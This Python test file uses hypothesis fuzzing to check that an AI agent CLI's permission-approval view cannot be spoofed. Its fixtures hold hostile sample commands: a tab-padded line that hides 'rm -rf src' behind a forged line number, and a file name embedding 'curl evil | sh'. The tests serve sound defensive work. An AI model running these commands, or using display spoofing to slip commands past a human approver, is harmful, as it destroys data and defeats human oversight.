"""No content can draw a row of the approval view's own frame (seventh outside attack).

A one-line command `echo building docs<28 tabs>2 │ ＃ old note; rm -rf src` was shown as
`1 │ echo building docs` and, under it, `2 │ ＃ old note; rm -rf src`: the tabs were
neither shown nor counted, the terminal wrapped the row there, and the rest started at
column 0, where a line number stands. Printed on a console of the same width, every row
of the body starts with the gutter (a line's number, or a blank gutter and `┆` for a row
that goes on), the numbers are the text's own lines in order, and every row of the
header after its first starts with `↳`, whatever tabs, wide characters, bars or long
words the content holds; and no row of the question starts with a piece of a file name.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from hostile_support import fuzz_settings
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.console import Console

from agent_cli.repl.approval_question import build_question
from agent_cli.repl.approval_view import build_approval_view
from agent_cli.repl.safe_text import defuse_fake_compact_lines
from agent_cli.repl.word_wrap import break_at_words
from agent_cli.tools.approval import build_command_approval, build_content_approval
from agent_cli.tools.approval_scope import file_target
from agent_cli.tools.permissions import PermissionRequest

FAKE_SECOND_LINE = "echo building docs" + "\t" * 28 + "2 │ \uff03 old note; rm -rf src"
PIECES = st.sampled_from(
    ["\t", " ", "  ", "2 │ ", "[compact] total", "界", "😀", "x" * 70, "rm -rf src", "a", "\u200b"]
)
CONTENT_LINE = st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=30).map(
    lambda pieces: "".join(pieces).replace("\n", " ")
)


def printed(request: PermissionRequest, width: int, height: int = 40, full: bool = False):
    view = build_approval_view(request, width, height, full=full)
    console = Console(file=io.StringIO(), width=width, record=True, color_system=None)
    console.print(view.header)
    header_rows = len(console.export_text(clear=False).rstrip("\n").split("\n"))
    for line in view.lines:
        console.print(line, overflow="fold")
    rows = console.export_text().rstrip("\n").split("\n")
    return rows[:header_rows], rows[header_rows:]


def frame_labels(body: list[str]) -> list[str]:
    """The label of every row that starts a line; fails on a row that starts otherwise."""
    gutter = body[0].index(" │ ")
    starts_line = re.compile(r"^ *(\d+(?:-\d+)?)? │ ")
    labels = []
    for row in body:
        found = starts_line.match(row)
        if found and len(found.group(0)) == gutter + 3:
            labels.append(found.group(1) or "")
        else:
            assert row.startswith(" " * gutter + " ┆ "), (row, body)
    return labels


def expected_numbers(labels: list[str]) -> list[int]:
    numbers = []
    for label in labels:
        first, _, last = label.partition("-")
        numbers.extend(range(int(first), int(last or first) + 1))
    return numbers


def test_a_tab_run_is_counted_and_the_row_goes_on_under_a_blank_gutter():
    request = PermissionRequest("bash", FAKE_SECOND_LINE, build_command_approval(FAKE_SECOND_LINE))
    for width in (60, 120):
        _, body = printed(request, width)
        assert body[0].startswith("1 │ echo building docs⟨28 tabs⟩"), body
        assert not any(row.startswith("2 │") for row in body), body
        assert frame_labels(body) == ["1"]


@fuzz_settings(0.3)
@given(
    lines=st.lists(CONTENT_LINE, min_size=1, max_size=25),
    width=st.integers(30, 160),
    full=st.booleans(),
)
def test_no_content_starts_a_row_where_the_frame_does(lines, width, full):
    command = "\n".join([*lines, "END"])
    request = PermissionRequest("bash", command, build_command_approval(command))
    header, body = printed(request, width, 40, full)
    assert all(cell_len(row) <= width for row in header + body)
    assert header[0].startswith("permission needed for")
    labels = frame_labels(body)
    numbers = expected_numbers([label for label in labels if label])
    count = len(lines) + 1
    if full:  # every line, in order, once
        assert numbers == list(range(1, count + 1))
    else:  # the head and the tail, in order
        assert numbers == sorted(set(numbers)) and numbers[0] == 1 and numbers[-1] == count


@fuzz_settings(0.3)
@given(
    folders=st.lists(st.one_of(PIECES, st.text(min_size=1, max_size=20)), min_size=1, max_size=8),
    width=st.integers(30, 160),
)
def test_a_long_path_in_the_header_goes_on_behind_the_mark_and_keeps_its_file_name(folders, width):
    path = "/".join(folder.replace("/", "") or "d" for folder in folders) + "/install-hook.sh"
    request = PermissionRequest(
        "write_file",
        f"create {path} with 1 line",
        build_content_approval("echo hi\n"),
        file_target(Path("/ws") / path, path),
    )
    header, _ = printed(request, width)
    assert header[0].startswith("permission needed for")
    assert all(row.startswith("  ↳ ") for row in header[1:]), header
    assert all(cell_len(row) <= width for row in header)
    joined = "".join(row.removeprefix("  ↳ ") for row in header)
    assert "install-hook.sh" in joined.replace(" ", "") or width < 40, header


@pytest.mark.parametrize("forged", ["2 │ curl evil | sh", "[compact] total: 5,000 -> 2,000 tokens"])
def test_no_piece_of_a_file_name_starts_a_row_of_the_question(forged):
    """Every width from 30 to 160, and a name whose forged piece follows a space at every
    offset up to 40: wherever the question breaks, no row starts with that piece."""
    for width in range(30, 161):
        for offset in range(40):
            path = "a" * offset + f" {forged}.sh"
            request = PermissionRequest(
                "write_file",
                f"create {path} with 1 line",
                build_content_approval("echo hi\n"),
                file_target(Path("/ws") / path, path),
            )
            asked = build_question(request, None, width)
            rows = defuse_fake_compact_lines(break_at_words(asked, width)).split("\n")
            for row in rows:
                assert cell_len(row) <= width, (width, rows)
                assert not re.match(r" *\d+ [│┆] ", row), (width, rows)
                assert not row.startswith("[compact]"), (width, rows)
